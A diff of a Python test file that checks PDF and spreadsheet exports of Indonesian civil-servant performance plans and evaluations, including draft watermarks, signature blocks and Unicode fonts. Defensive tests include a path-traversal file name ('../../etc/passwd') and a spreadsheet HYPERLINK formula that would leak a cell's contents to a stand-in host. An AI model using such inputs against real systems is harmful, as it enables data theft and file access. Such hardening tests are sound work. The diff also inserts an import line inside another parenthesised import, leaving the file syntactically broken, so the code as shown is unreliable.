@@ -1,5 +1,5 @@
 """The SKP and the Dokumen Evaluasi Kinerja Pegawai as printable PDF and XLSX: what a reader of
-the file actually sees."""
+the file actually sees (text extracted with pypdf, cells read with openpyxl)."""
 
 from __future__ import annotations
 
@@ -13,14 +13,22 @@ from pypdf import PdfReader
 from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker
 
 from models import Aspect, CoreValue, Evaluation, Plan
-from services.documents import evaluation_document, plan_document, to_pdf, to_xlsx
+from services.documents import (
+    date_words,
+    evaluation_document,
+    period_words,
+    plan_document,
+    render,
+    to_pdf,
+    to_xlsx,
+)
 from services.evaluation import finalize, respond
 from services.plans import save_draft
 from services.predicate import Rating
 from services.review import Decision, decide
 from tests.conftest import FrozenClock
-from tests.services.evaluation_helpers import rate
 from tests.services.plan_helpers import (
+from tests.services.evaluation_helpers import rate
     APRIL_2,
     Q1,
     PlanOrg,
@@ -37,7 +45,10 @@ from tests.services.plan_helpers import (
 Factory = async_sessionmaker[AsyncSession]
 RHK_1 = "Dokumen layanan data tersusun"
 RHK_2 = "Surat dinas terkirim tepat waktu"
-SIGNERS = ("Pegawai yang dinilai", "Pejabat Penilai Kinerja")
+BOSS_RHK_1 = "Terselenggaranya layanan data bidang"
+BOSS_RHK_2 = "Tersusunnya laporan kinerja bidang"
+APRIL_2_DAY = date(2026, 4, 2)
+RAW_KEYS = ("berorientasi_pelayanan", "2026-Q1", "2026-Y", "di_atas", "kuantitas", "utama")
 
 
 def pdf_text(data: bytes) -> str:
@@ -53,8 +64,13 @@ def sheet_rows(data: bytes) -> list[tuple[Any, ...]]:
     ]
 
 
+def signature_rows(rows: list[tuple[Any, ...]], first_role: str) -> list[tuple[Any, ...]]:
+    start = max(i for i, row in enumerate(rows) if row and row[0] == first_role)
+    return rows[start - 1 :]
+
+
 async def _approved(session: AsyncSession, clock: FrozenClock) -> tuple[PlanOrg, Plan]:
-    """Staff's approved SKP with 3 dokumen approved in March and 2 more in April."""
+    """Staff's SKP approved on 2 March with 3 dokumen approved in March and 2 more in April."""
     clock.now = wib(date(2026, 3, 2))
     org = await make_plan_org(session, clock.now)
     cascade = await make_cascade(session, org, clock.now)
@@ -68,6 +84,7 @@ async def _approved(session: AsyncSession, clock: FrozenClock) -> tuple[PlanOrg,
                 cascade.boss_items[0].id,
                 iki("Jumlah dokumen", "12", "dokumen"),
                 iki("Ketepatan", "100", "%", Aspect.QUALITY),
+                actions={1: "Menghimpun data triwulan I", 2: "Menyusun dokumen triwulan II"},
             ),
             rhk(RHK_2, cascade.boss_items[1].id, iki("Jumlah surat", "50", "surat")),
         ],
@@ -92,146 +109,174 @@ async def _approved(session: AsyncSession, clock: FrozenClock) -> tuple[PlanOrg,
     return org, plan
 
 
-async def _final_evaluation(
-    session: AsyncSession, factory: Factory, org: PlanOrg, plan: Plan, now: datetime
+async def _evaluation(
+    session: AsyncSession, factory: Factory, org: PlanOrg, plan: Plan, now: datetime, *, final: bool
 ) -> Evaluation:
     evaluation_id = await open_fresh(factory, org.boss, org.staff, Q1, now)
-    await rate(
+    evaluation = await rate(
         session,
         org.boss,
         evaluation_id,
         now=now,
         result=Rating.ABOVE,
         behaviour=Rating.AS_EXPECTED,
-        value=(CoreValue.LOYAL, Rating.ABOVE, None),
+        value=(CoreValue.SERVICE, Rating.ABOVE, "Sigap melayani permintaan data"),
         note=(plan.items[0].id, "Pertahankan mutu"),
         recommendation="Pelatihan analisis data",
     )
-    await finalize(session, org.boss, evaluation_id, now=now)
-    evaluation = await respond(session, org.staff, evaluation_id, "Terima kasih", now=now)
+    if final:
+        await finalize(session, org.boss, evaluation_id, now=now)
+        evaluation = await respond(session, org.staff, evaluation_id, "Terima kasih", now=now)
     return evaluation
 
 
-async def test_plan_pdf_shows_parties_rhks_targets_realization_and_signatures(
+async def test_approved_skp_pdf_is_the_agency_form_in_words(
     session: AsyncSession, session_factory: Factory, clock: FrozenClock
 ) -> None:
     org, plan = await _approved(session, clock)
 
-    text = pdf_text(to_pdf(await plan_document(session, plan), date(2026, 4, 2)))
+    text = pdf_text(to_pdf(await plan_document(session, plan), APRIL_2_DAY))
 
     for expected in (
-        "SASARAN KINERJA PEGAWAI 2026",
+        "DINAS UJI SASARAN KINERJA PEGAWAI 2026",  # the agency as letterhead
         f"Pegawai yang dinilai: Siti Aminah / NIP {org.staff.nip} / Analis / Dinas Uji / Bidang A",
         f"Pejabat Penilai Kinerja: Kepala Bidang A / NIP {org.boss.nip}",
-        RHK_1,
-        RHK_2,
-        "Jumlah dokumen",
-        "12 dokumen",
-        "5 dokumen",  # 3 in March + 2 in April, both approved
-        "50 surat",
-        "0 surat",
-        "Utama",
-        "Kuantitas",
-        "Kualitas",
-        "Periode: 01/01/2026 - 31/12/2026",
+        f"Atasan Pejabat Penilai Kinerja: Kepala Dinas / NIP {org.head.nip}",
+        "RHK atasan yang diintervensi",
+        f"Utama {BOSS_RHK_1} {RHK_1} Kuantitas Jumlah dokumen 12 dokumen 5 dokumen",
+        f"{BOSS_RHK_2} {RHK_2} Kuantitas Jumlah surat 50 surat 0 surat",
+        "Kualitas Ketepatan 100 % 0 %",
+        "B. PERILAKU KERJA (BerAKHLAK)",
+        "Berorientasi Pelayanan",
+        "Kolaboratif",
+        "C. RENCANA AKSI",
+        f"1 {RHK_1} Triwulan I Menghimpun data triwulan I",
+        f"1 {RHK_1} Triwulan II Menyusun dokumen triwulan II",
+        "Periode: 1 Januari 2026 s.d. 31 Desember 2026",
         "Status: Disetujui",
         "Ekspektasi khusus pimpinan: Responsif terhadap permintaan data",
-        "Dicetak 02/04/2026",
-        "Atasan Pejabat Penilai Kinerja",
-        f"Kepala Dinas NIP {org.head.nip}",
-        f"Siti Aminah NIP {org.staff.nip}",
+        # approved on 2 March: the place/date line above the two signature blocks
+        "Dinas Uji, 2 Maret 2026",
+        f"Pegawai yang dinilai Siti Aminah NIP {org.staff.nip}",
+        f"Pejabat Penilai Kinerja Kepala Bidang A NIP {org.boss.nip}",
+        "Dicetak 2 April 2026",
     ):
         assert expected in text, expected
-    assert all(role in text for role in SIGNERS)
+    assert "DRAFT" not in text
+    assert not any(raw in text for raw in RAW_KEYS)
 
 
-async def test_plan_xlsx_cells(
+async def test_approved_skp_xlsx_cells(
     session: AsyncSession, session_factory: Factory, clock: FrozenClock
 ) -> None:
     org, plan = await _approved(session, clock)
 
-    rows = sheet_rows(to_xlsx(await plan_document(session, plan)))
+    rows = sheet_rows(to_xlsx(await plan_document(session, plan), APRIL_2_DAY))
 
-    assert rows[0] == ("SASARAN KINERJA PEGAWAI 2026",)
-    assert rows[1] == (
-        "Pegawai yang dinilai",
-        "Siti Aminah",
-        org.staff.nip,
-        "Analis",
-        "Dinas Uji / Bidang A",
+    assert rows[:2] == [("DINAS UJI",), ("SASARAN KINERJA PEGAWAI 2026",)]
+    assert rows[2] == ("Pegawai yang dinilai", "Siti Aminah", org.staff.nip, "Analis", UNIT_A_PATH)
+    head = (
+        "No",
+        "Jenis",
+        "RHK atasan yang diintervensi",
+        "Rencana Hasil Kerja",
+        "Aspek",
+        "IKI",
+        "Target",
+        "Realisasi",
     )
-    assert rows[2] == (
-        "Pejabat Penilai Kinerja",
-        "Kepala Bidang A",
-        org.boss.nip,
-        "Analis",
-        "Dinas Uji / Bidang A",
-    )
-    header = rows.index(
-        ("No", "Jenis", "Rencana Hasil Kerja", "Aspek", "IKI", "Target", "Realisasi")
-    )
-    assert rows[header + 1 : header + 4] == [
-        ("1", "Utama", RHK_1, "Kuantitas", "Jumlah dokumen", "12 dokumen", "5 dokumen"),
-        ("1", "Utama", RHK_1, "Kualitas", "Ketepatan", "100 %", "0 %"),
-        ("2", "Utama", RHK_2, "Kuantitas", "Jumlah surat", "50 surat", "0 surat"),
+    at = rows.index(head)
+    assert rows[at + 1 : at + 4] == [
+        ("1", "Utama", BOSS_RHK_1, RHK_1, "Kuantitas", "Jumlah dokumen", "12 dokumen", "5 dokumen"),
+        ("1", "Utama", BOSS_RHK_1, RHK_1, "Kualitas", "Ketepatan", "100 %", "0 %"),
+        ("2", "Utama", BOSS_RHK_2, RHK_2, "Kuantitas", "Jumlah surat", "50 surat", "0 surat"),
     ]
+    actions = rows.index(("No RHK", "Rencana Hasil Kerja", "Periode", "Rencana Aksi"))
+    assert rows[actions + 1] == ("1", RHK_1, "Triwulan I", "Menghimpun data triwulan I")
     assert ("Status", "Disetujui") in rows
-    assert rows[-4:] == [
-        ("Pegawai yang dinilai", "Pejabat Penilai Kinerja", "Atasan Pejabat Penilai Kinerja"),
+    assert signature_rows(rows, "Pegawai yang dinilai") == [
+        ("Dinas Uji, 2 Maret 2026",),
+        ("Pegawai yang dinilai", "Pejabat Penilai Kinerja"),
         (),  # room for the wet signatures
-        ("Siti Aminah", "Kepala Bidang A", "Kepala Dinas"),
-        (f"NIP {org.staff.nip}", f"NIP {org.boss.nip}", f"NIP {org.head.nip}"),
+        ("Siti Aminah", "Kepala Bidang A"),
+        (f"NIP {org.staff.nip}", f"NIP {org.boss.nip}"),
     ]
 
 
-async def test_evaluation_pdf_shows_ratings_predicate_and_only_the_periods_realization(
+UNIT_A_PATH = "Dinas Uji / Bidang A"
+
+
+async def test_a_draft_skp_is_marked_draft_and_has_no_signature_blocks(
+    session: AsyncSession, clock: FrozenClock
+) -> None:
+    org = await make_plan_org(session, clock.now)
+    items = [rhk(f"{RHK_1} {n}") for n in range(1, 31)]
+    plan = await save_draft(session, org.staff, 2026, items, now=clock.now)
+    document = await plan_document(session, plan)
+
+    pdf = render(document, "pdf", date(2026, 12, 2))
+    text = pdf_text(pdf.data)
+    pages = PdfReader(io.BytesIO(pdf.data)).pages
+
+    assert len(pages) > 1
+    assert all("DRAFT" in page.extract_text() for page in pages)  # the watermark on each page
+    rows = sheet_rows(render(document, "xlsx", date(2026, 12, 2)).data)
+
+    assert "DRAFT - BELUM DISETUJUI, TIDAK UNTUK DITANDATANGANI" in text
+    assert "Status: Draf" in text
+    assert "Dinas Uji, 2 Desember 2026" in text  # the printing day, as no one signed yet
+    assert f"Siti Aminah NIP {org.staff.nip}" not in text
+    assert pdf.filename == "SKP-2026-Siti-Aminah-DRAFT.pdf"
+    assert ("DRAFT - BELUM DISETUJUI, TIDAK UNTUK DITANDATANGANI",) in rows
+    assert rows[-1] == ("Dinas Uji, 2 Desember 2026",)
+    assert not any(f"NIP {org.staff.nip}" in row for row in rows)
+    assert ("Belum ada rencana aksi.",) in rows
+
+
+async def test_final_evaluation_pdf_shows_periods_in_words_and_the_berakhlak_feedback(
     session: AsyncSession, session_factory: Factory, clock: FrozenClock
 ) -> None:
     org, plan = await _approved(session, clock)
-    evaluation = await _final_evaluation(session, session_factory, org, plan, clock.now)
+    evaluation = await _evaluation(session, session_factory, org, plan, clock.now, final=True)
+    document = await evaluation_document(session, evaluation, plan)
 
-    text = pdf_text(to_pdf(await evaluation_document(session, evaluation, plan), date(2026, 4, 2)))
+    text = pdf_text(to_pdf(document, APRIL_2_DAY))
 
     for expected in (
-        "DOKUMEN EVALUASI KINERJA PEGAWAI",
-        f"Pegawai yang dinilai: Siti Aminah / NIP {org.staff.nip}",
-        f"Pejabat Penilai Kinerja: Kepala Bidang A / NIP {org.boss.nip}",
+        "DINAS UJI DOKUMEN EVALUASI KINERJA PEGAWAI",
         f"Atasan Pejabat Penilai Kinerja: Kepala Dinas / NIP {org.head.nip}",
-        RHK_1,
-        "3 dokumen",  # the April output lies outside Q1
-        "Pertahankan mutu",
-        "Periode: 2026-Q1 (01/01/2026 - 31/03/2026)",
+        f"1 {RHK_1} Jumlah dokumen 12 dokumen 3 dokumen Pertahankan mutu",  # Q1 only
+        "1 Berorientasi Pelayanan Di Atas Ekspektasi Sigap melayani permintaan data",
+        "7 Kolaboratif - -",
+        "Periode: Triwulan I 2026 (1 Januari 2026 s.d. 31 Maret 2026)",
         "Rating Hasil Kerja: Di Atas Ekspektasi",
         "Rating Perilaku Kerja: Sesuai Ekspektasi",
-        "Perilaku: loyal: Di Atas Ekspektasi",
         "Predikat Kinerja Pegawai: Baik",
+        "Konversi angka kredit (Peraturan BKN 3/2023): 100 %",
         "Rekomendasi pengembangan: Pelatihan analisis data",
         "Tanggapan pegawai: Terima kasih",
-        f"Kepala Bidang A NIP {org.boss.nip}",
-        f"Siti Aminah NIP {org.staff.nip}",
+        "Dinas Uji, 2 April 2026",  # finalised that day
+        f"Pejabat Penilai Kinerja Kepala Bidang A NIP {org.boss.nip}",
+        f"Pegawai yang dinilai Siti Aminah NIP {org.staff.nip}",
     ):
         assert expected in text, expected
     assert "5 dokumen" not in text
-    assert "Sangat Baik" not in text
-    assert all(role in text for role in SIGNERS)
+    assert "DRAFT" not in text
+    assert not any(raw in text for raw in RAW_KEYS)
+    assert render(document, "pdf", APRIL_2_DAY).filename == (
+        "Evaluasi-Triwulan-I-2026-Siti-Aminah.pdf"
+    )
+    assert document.label == "Evaluasi Kinerja Triwulan I 2026"
 
 
 async def test_evaluation_xlsx_cells(
     session: AsyncSession, session_factory: Factory, clock: FrozenClock
 ) -> None:
     org, plan = await _approved(session, clock)
-    evaluation = await _final_evaluation(session, session_factory, org, plan, clock.now)
+    evaluation = await _evaluation(session, session_factory, org, plan, clock.now, final=True)
 
-    rows = sheet_rows(to_xlsx(await evaluation_document(session, evaluation, plan)))
+    rows = sheet_rows(to_xlsx(await evaluation_document(session, evaluation, plan), APRIL_2_DAY))
 
-    assert rows[0] == ("DOKUMEN EVALUASI KINERJA PEGAWAI",)
-    assert rows[3] == (
-        "Atasan Pejabat Penilai Kinerja",
-        "Kepala Dinas",
-        org.head.nip,
-        "Analis",
-        "Dinas Uji",
-    )
     header = rows.index(("No", "Rencana Hasil Kerja", "IKI", "Target", "Realisasi", "Umpan balik"))
     assert rows[header + 1] == (
         "1",
@@ -241,15 +286,49 @@ async def test_evaluation_xlsx_cells(
         "3 dokumen",
         "Pertahankan mutu",
     )
-    assert rows[header + 3] == ("2", RHK_2, "Jumlah surat", "50 surat", "0 surat", "-")
+    behaviour = rows.index(("No", "Perilaku Kerja", "Penilaian", "Umpan balik"))
+    assert rows[behaviour + 1] == (
+        "1",
+        "Berorientasi Pelayanan",
+        "Di Atas Ekspektasi",
+        "Sigap melayani permintaan data",
+    )
+    assert [row[1] for row in rows[behaviour + 1 : behaviour + 8]] == [
+        "Berorientasi Pelayanan",
+        "Akuntabel",
+        "Kompeten",
+        "Harmonis",
+        "Loyal",
+        "Adaptif",
+        "Kolaboratif",
+    ]
+    assert ("Periode", "Triwulan I 2026 (1 Januari 2026 s.d. 31 Maret 2026)") in rows
     assert ("Predikat Kinerja Pegawai", "Baik") in rows
-    assert ("Rating Hasil Kerja", "Di Atas Ekspektasi") in rows
-    assert rows[-4:] == [
+    assert signature_rows(rows, "Pejabat Penilai Kinerja") == [
+        ("Dinas Uji, 2 April 2026",),
         ("Pejabat Penilai Kinerja", "Pegawai yang dinilai"),
         (),
         ("Kepala Bidang A", "Siti Aminah"),
         (f"NIP {org.boss.nip}", f"NIP {org.staff.nip}"),
     ]
+
+
+async def test_a_draft_evaluation_is_marked_draft_without_signatures(
+    session: AsyncSession, session_factory: Factory, clock: FrozenClock
+) -> None:
+    org, plan = await _approved(session, clock)
+    evaluation = await _evaluation(session, session_factory, org, plan, clock.now, final=False)
+    document = await evaluation_document(session, evaluation, plan)
+
+    text = pdf_text(to_pdf(document, APRIL_2_DAY))
+
+    assert "DRAFT - BELUM DISETUJUI" in text
+    assert "Sigap melayani permintaan data" in text  # feedback shows while still a draft
+    assert f"Kepala Bidang A NIP {org.boss.nip}" not in text
+    assert document.signers == []
+    assert render(document, "xlsx", APRIL_2_DAY).filename == (
+        "Evaluasi-Triwulan-I-2026-Siti-Aminah-DRAFT.xlsx"
+    )
 
 
 async def test_evaluation_without_plan_or_rating_still_prints(
@@ -262,32 +341,94 @@ async def test_evaluation_without_plan_or_rating_still_prints(
     assert evaluation is not None
 
     document = await evaluation_document(session, evaluation, None)
-    text = pdf_text(to_pdf(document, date(2026, 4, 2)))
+    text = pdf_text(to_pdf(document, APRIL_2_DAY))
 
-    assert document.table == []
+    assert document.tables[0].rows == []
     assert "Predikat Kinerja Pegawai: -" in text
     assert "Rating Hasil Kerja: -" in text
     assert ("Predikat Kinerja Pegawai", "-") in sheet_rows(to_xlsx(document))
 
 
-@pytest.mark.parametrize(
-    ("typed", "printed"),
-    [
-        ("Laporan “final” — revisi…", "Laporan “final” — revisi…"),
-        ("Ñoman Ā Nguyễn", "Ñoman Ā Nguyễn"),
-        # A glyph the font lacks is left out; the rest of the line still prints.
-        ("Data ✅ terkirim", "Data  terkirim"),
-    ],
-)
-async def test_unicode_text_prints_in_the_pdf(
-    typed: str, printed: str, session: AsyncSession, clock: FrozenClock
+NAME = "José Şahin — Tim Data"
+
+
+async def test_a_unicode_name_round_trips_in_the_embedded_font(
+    session: AsyncSession, clock: FrozenClock
 ) -> None:
     org = await make_plan_org(session, clock.now)
-    plan = await save_draft(session, org.staff, 2026, [rhk(typed)], now=clock.now)
+    org.staff.name = NAME
+    await session.commit()
+    items = [rhk("Laporan “final” — revisi…"), rhk("Data ✅ terkirim")]
+    plan = await save_draft(session, org.staff, 2026, items, now=clock.now)
 
-    reader = PdfReader(io.BytesIO(to_pdf(await plan_document(session, plan), date(2026, 3, 2))))
+    file = render(await plan_document(session, plan), "pdf", date(2026, 3, 2))
+    reader = PdfReader(io.BytesIO(file.data))
     text = "\n".join(page.extract_text() for page in reader.pages)
+    fonts = reader.pages[0]["/Resources"]["/Font"]
+    descriptors = [f.get_object()["/DescendantFonts"][0].get_object() for f in fonts.values()]
 
-    assert printed in text
-    # The spreadsheet keeps the text as typed.
-    assert any(typed in row for row in sheet_rows(to_xlsx(await plan_document(session, plan))))
+    assert NAME in text
+    assert "Laporan “final” — revisi…" in text
+    assert "Data  terkirim" in text  # a glyph the font lacks (an emoji) is left out
+    assert "?" not in text  # nothing replaced by "?"
+    assert all("DejaVu" in d["/BaseFont"] for d in descriptors)
+    assert all("/FontFile2" in d["/FontDescriptor"].get_object() for d in descriptors)
+    assert file.filename == "SKP-2026-Jose-Sahin-Tim-Data-DRAFT.pdf"
+
+
+@pytest.mark.parametrize(
+    ("name", "stem"),
+    [
+        ("../../etc/passwd", "SKP-2026-etc-passwd-DRAFT"),
+        (("Ni Luh Putu Ayu Kadek Wayan " * 10)[:200], None),  # bounded
+        ("王小明", "SKP-2026-pegawai-DRAFT"),  # nothing ASCII left
+    ],
+)
+async def test_file_names_are_safe_and_bounded(
+    name: str, stem: str | None, session: AsyncSession, clock: FrozenClock
+) -> None:
+    org = await make_plan_org(session, clock.now)
+    org.staff.name = name
+    await session.commit()
+    plan = await save_draft(session, org.staff, 2026, [rhk(RHK_1)], now=clock.now)
+
+    filename = render(await plan_document(session, plan), "xlsx", date(2026, 3, 2)).filename
+
+    assert filename.endswith(".xlsx")
+    assert "/" not in filename
+    assert "\\" not in filename
+    assert filename.isascii()
+    assert len(filename) <= 80
+    if stem is not None:
+        assert filename == f"{stem}.xlsx"
+
+
+async def test_typed_texts_in_the_new_sections_stay_text_cells(
+    session: AsyncSession, session_factory: Factory, clock: FrozenClock
+) -> None:
+    org = await make_plan_org(session, clock.now)
+    formula = '=HYPERLINK("http://x.test/?"&B2,"Lihat")'
+    plan = await save_draft(
+        session, org.staff, 2026, [rhk(RHK_1, actions={1: formula})], now=clock.now
+    )
+
+    workbook = load_workbook(io.BytesIO(to_xlsx(await plan_document(session, plan))))
+    cells = [c for row in workbook.active.iter_rows() for c in row if c.value == formula]
+
+    assert cells
+    assert all(c.data_type == "s" for c in cells)
+
+
+@pytest.mark.parametrize(
+    ("key", "words"),
+    [
+        ("2026-Y", "Tahunan 2026"),
+        ("2026-Q3", "Triwulan III 2026"),
+        ("2026-Q4", "Triwulan IV 2026"),
+        ("2026-S2", "Semester II 2026"),
+        ("2026-M03", "Maret 2026"),
+    ],
+)
+def test_periods_and_dates_are_printed_in_words(key: str, words: str) -> None:
+    assert period_words(key) == words
+    assert date_words(date(2026, 12, 2)) == "2 Desember 2026"
